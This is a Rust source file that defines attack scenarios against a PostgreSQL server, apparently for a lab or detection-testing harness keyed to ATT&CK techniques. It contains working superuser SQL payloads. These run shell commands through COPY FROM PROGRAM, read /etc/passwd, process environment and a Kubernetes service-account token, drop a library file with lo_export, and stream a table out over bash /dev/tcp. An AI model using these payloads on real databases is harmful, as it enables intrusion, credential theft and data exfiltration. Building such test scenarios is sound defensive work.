//! Attacks on PostgreSQL.
//!
//! In: a target that is one. Out: scenarios. Never: another server's.

use super::moves::{LOOK_AROUND, LOOT};
use crate::attacks::{Ready, Scenario, target::TOKEN_TEXT};

const SUPERUSER: &str = "SQL as the superuser, whom the server trusts without a password";

/// Its scenarios.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "copy-program",
        server: "postgres",
        technique: "T1059.004",
        entry: SUPERUSER,
        what: "COPY FROM PROGRAM: the server runs a shell that looks around",
        services: &[],
        act: |t| t.run(LOOK_AROUND),
        proof: "uid=102(postgres)",
    },
    Scenario {
        name: "read-file",
        server: "postgres",
        technique: "T1005",
        entry: SUPERUSER,
        what: "pg_read_file: the server itself reads the service-account token and other files; no process starts",
        services: &[],
        act: |t| {
            t.sql(
                "SELECT pg_read_file('/etc/passwd'); SELECT encode(pg_read_binary_file('/proc/self/environ', 0, 4096), 'escape');
                   SELECT pg_read_file('/var/run/secrets/kubernetes.io/serviceaccount/token')",
            )
        },
        proof: TOKEN_TEXT,
    },
    Scenario {
        name: "lo-export",
        server: "postgres",
        technique: "T1105",
        entry: SUPERUSER,
        what: "lo_export: the server itself writes a library that it was given as a large object",
        services: &[],
        act: |t| {
            t.sql(
                "SELECT lo_from_bytea(4711, decode(repeat('7f454c46', 2048), 'hex')); SELECT lo_export(4711, '/tmp/.pg.so');
                   SELECT lo_unlink(4711), 'exported'",
            )
        },
        proof: "exported",
    },
    Scenario {
        name: "dump",
        server: "postgres",
        technique: "T1048.003",
        entry: SUPERUSER,
        what: "a table goes to another host: COPY TO PROGRAM with a shell that connects there",
        services: &[(LOOT, Ready::Sink)],
        act: |t| t.sql("COPY (SELECT * FROM pgbench_accounts LIMIT 5000) TO PROGRAM 'bash -c \"cat >/dev/tcp/127.0.0.1/4446\"'"),
        proof: "\t1\t0\t",
    },
];
